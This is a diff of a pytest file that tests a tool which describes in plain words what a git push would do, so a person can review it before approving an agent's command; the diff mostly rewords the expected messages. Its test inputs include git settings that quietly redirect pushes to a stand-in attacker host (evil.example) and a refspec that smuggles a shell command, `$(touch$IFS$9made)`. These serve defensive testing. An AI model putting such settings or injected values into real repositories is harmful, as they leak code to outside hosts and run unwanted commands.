@@ -28,8 +28,8 @@ def set_up(folder, environ, setting):
     subprocess.run(lines, shell=True, cwd=folder, check=True, env=environ, capture_output=True)
 
 
-SAID = ", as the repository's settings say"
-SIMPLE = f"on {HUB} it would push `a`"
+SAID = " (set in the repository's config)"
+SIMPLE = f"on {HUB}, this would push `a`"
 
 
 @pytest.mark.parametrize(
@@ -37,65 +37,65 @@ SIMPLE = f"on {HUB} it would push `a`"
     [
         ("", "git push origin a", SIMPLE, ""),
         ("", "git push", SIMPLE, ""),
-        ("", "git push -f", f"on {HUB} it would force `a`", ""),
-        ("", "git push origin a:main :old", f"on {HUB} it would push `a` to `main`, delete `old`",
-         ""),
-        ("", "git push hub a", "on git@hub.example:me/shop.git it would push `a`", ""),
+        ("", "git push -f", f"on {HUB}, this would force-push `a`", ""),
+        ("", "git push origin a:main :old",
+         f"on {HUB}, this would push `a` to `main`, delete `old`", ""),
+        ("", "git push hub a", "on git@hub.example:me/shop.git, this would push `a`", ""),
         ("git config remote.origin.push +a:main", "git push",
-         f"on {HUB} it would force `a` to `main`{SAID}", "git push --force origin a:main"),
+         f"on {HUB}, this would force-push `a` to `main`{SAID}", "git push --force origin a:main"),
         ("git config remote.origin.push :main", "git push",
-         f"on {HUB} it would delete `main`{SAID}", "git push origin :main"),
+         f"on {HUB}, this would delete `main`{SAID}", "git push origin :main"),
         ("git config remote.origin.push +refs/heads/a:refs/heads/main", "git push origin a",
-         f"on {HUB} it would force `a` to `main`{SAID}",
+         f"on {HUB}, this would force-push `a` to `main`{SAID}",
          "git push --force origin a:refs/heads/main"),
         ("git config remote.origin.push '+refs/heads/*:refs/heads/x/*'", "git push -q origin a",
-         f"on {HUB} it would force `a` to `x/a`{SAID}",
+         f"on {HUB}, this would force-push `a` to `x/a`{SAID}",
          "git push -q --force origin a:refs/heads/x/a"),
         ("git config remote.origin.push +a:main", "git push origin a:b",
-         f"on {HUB} it would push `a` to `b`", ""),
+         f"on {HUB}, this would push `a` to `b`", ""),
         ("git config remote.origin.mirror true", "git push",
-         f"on {HUB} it would overwrite every branch and tag and delete those that are not here "
+         f"on {HUB}, this would overwrite every branch and tag and delete those that are not here "
          f"(a mirror){SAID}", "git push --mirror origin"),
         ("git config push.default matching", "git push",
-         f"on {HUB} it would push every branch that is there as well{SAID}",
+         f"on {HUB}, this would push every branch that is there as well{SAID}",
          "git push origin :"),
         ("git config push.default matching", "git push -f",
-         f"on {HUB} it would force every branch that is there as well{SAID}",
+         f"on {HUB}, this would force-push every branch that is there as well{SAID}",
          "git push -f origin :"),
         ("git config push.default upstream; git config branch.a.remote origin; "
          "git config branch.a.merge refs/heads/main", "git push",
-         f"on {HUB} it would push `a` to `main`{SAID}", "git push origin a:refs/heads/main"),
+         f"on {HUB}, this would push `a` to `main`{SAID}", "git push origin a:refs/heads/main"),
         ("git config push.followTags true", "git push origin a",
          f"{SIMPLE}, push its tags{SAID}", "git push --follow-tags origin a"),
         ("git config remote.pushDefault hub", "git push",
-         "on git@hub.example:me/shop.git it would push `a`", ""),
+         "on git@hub.example:me/shop.git, this would push `a`", ""),
         ("git config branch.a.pushRemote hub", "git push",
-         "on git@hub.example:me/shop.git it would push `a`", ""),
+         "on git@hub.example:me/shop.git, this would push `a`", ""),
         ("git config remote.pushDefault https://evil.example/x", "git push",
-         "on https://evil.example/x it would push `a`", ""),
+         "on https://evil.example/x, this would push `a`", ""),
         ("git config url.https://evil.example/.pushInsteadOf https://github.com/", "git push",
-         f"on https://evil.example/me/shop.git (set to replace {HUB}) it would push `a`", ""),
+         f"on https://evil.example/me/shop.git (set to replace {HUB}), this would push `a`", ""),
         ("git config url.https://evil.example/.insteadOf https://github.com/",
          f"git push {HUB} a",
-         f"on https://evil.example/me/shop.git (set to replace {HUB}) it would push `a`", ""),
+         f"on https://evil.example/me/shop.git (set to replace {HUB}), this would push `a`", ""),
         ("git config url.https://evil.example/.pushInsteadOf https://github.com/; "
          "git config url.https://other.example/.insteadOf https://",
          f"git push {HUB} a",
-         f"on https://evil.example/me/shop.git (set to replace {HUB}) it would push `a`", ""),
+         f"on https://evil.example/me/shop.git (set to replace {HUB}), this would push `a`", ""),
         ("git remote set-url --add --push origin ../one; git remote set-url --add --push origin "
          "https://me:password@two.example/x", "git push origin a",
-         "on ../one and https://two.example/x it would push `a`", ""),
+         "on ../one and https://two.example/x, this would push `a`", ""),
         ("git config remote.origin.push +a:main", "git commit -qm 'x; y' && git push; make test",
-         f"on {HUB} it would force `a` to `main`{SAID}",
+         f"on {HUB}, this would force-push `a` to `main`{SAID}",
          "git commit -qm 'x; y' && git push --force origin a:main ; make test"),
         ("git init -q sub; git -C sub remote add origin ../x; git -C sub checkout -qb b; "
          "git -C sub config remote.origin.push +b:main", "cd sub && git push",
-         f"on ../x it would force `b` to `main`{SAID}",
+         f"on ../x, this would force-push `b` to `main`{SAID}",
          "cd sub && git push --force origin b:main"),
         ("git init -q sub; git -C sub remote add origin ../x; git -C sub checkout -qb b",
-         "git -C sub push origin b", "on ../x it would push `b`", ""),
+         "git -C sub push origin b", "on ../x, this would push `b`", ""),
         ("git config remote.origin.push '+a:$(touch$IFS$9made)'", "git push",
-         f"on {HUB} it would force `a` to `$(touch$IFS$9made)`{SAID}",
+         f"on {HUB}, this would force-push `a` to `$(touch$IFS$9made)`{SAID}",
          "git push --force origin 'a:$(touch$IFS$9made)'"),
     ],
 )  # fmt: skip
@@ -105,7 +105,7 @@ def test_a_question_says_what_would_be_pushed(tmp_path, environ, setting, comman
     assert (found.told, found.line) == ((told,), line)
 
 
-WITH_C = ", as `-c` and the repository's settings say"
+WITH_C = " (set with `-c` and in the repository's config)"
 MIRROR = "overwrite every branch and tag and delete those that are not here (a mirror)"
 
 
@@ -114,12 +114,12 @@ MIRROR = "overwrite every branch and tag and delete those that are not here (a m
     [
         ("git -c remote.origin.mirror=true push", f"{MIRROR}{WITH_C}",
          "git -c remote.origin.mirror=true push --mirror origin"),
-        ("git -c Remote.origin.Push=+a:main push", f"force `a` to `main`{WITH_C}",
+        ("git -c Remote.origin.Push=+a:main push", f"force-push `a` to `main`{WITH_C}",
          "git -c Remote.origin.Push=+a:main push --force origin a:main"),
         ("git -c user.name=x --no-pager push", "push `a`", ""),
         ("git push --del origin main", "delete `main`", ""),
         ("git push origin main -df", "delete `main`", ""),
-        ("git push -uf", "force `a`", ""),
+        ("git push -uf", "force-push `a`", ""),
         ("git push -f --no-force", "push `a`", ""),
         ("git push --mir", MIRROR, ""),
         ("git push --prune origin a", "delete branches that are not here, push `a`", ""),
@@ -133,7 +133,7 @@ MIRROR = "overwrite every branch and tag and delete those that are not here (a m
 def test_a_question_says_what_the_words_of_a_line_do(tmp_path, environ, command, does, line):
     set_up(tmp_path, environ, "")
     found = meant(command, str(tmp_path), environ, str(tmp_path))
-    assert (found.told, found.line) == ((f"on {HUB} it would {does}",), line)
+    assert (found.told, found.line) == ((f"on {HUB}, this would {does}",), line)
 
 
 @pytest.mark.parametrize(
@@ -195,7 +195,7 @@ def test_settings_that_push_more_are_said(tmp_path, environ):
     root = str(tmp_path)
     set_up(tmp_path, environ, "git config remote.origin.receivepack prog")
     found = meant("git push", root, environ, root)
-    assert found.told == (f"on {HUB} it would run `prog` to receive it, push `a`{SAID}",)
+    assert found.told == (f"on {HUB}, this would run `prog` to receive it, push `a`{SAID}",)
     assert found.line == "git push --receive-pack=prog origin a"
     subprocess.run(["git", "config", "submodule.recurse", "true"], cwd=tmp_path, check=True)
     assert meant("git push", root, environ, root).told == (
@@ -252,9 +252,9 @@ def test_a_person_reads_it_before_they_approve(environ, workspace, script):
     runs = ("git push", "git push origin a:b", "git config --unset remote.origin.push")
     turns = [{"tool_calls": [call("workspace_run_command", command=one)]} for one in runs]
     asked = play(environ, workspace, script(*turns[:2], DONE), ["deny", "deny"])
-    assert f"on {HUB} it would force `a` to `topic`{SAID}" in asked[0].reason
+    assert f"on {HUB}, this would force-push `a` to `topic`{SAID}" in asked[0].reason
     assert asked[0].actions[0].means == "git push --force origin a:topic"
-    assert f"on {HUB} it would push `a` to `b`" in asked[1].reason
+    assert f"on {HUB}, this would push `a` to `b`" in asked[1].reason
 
 
 @pytest.mark.parametrize(
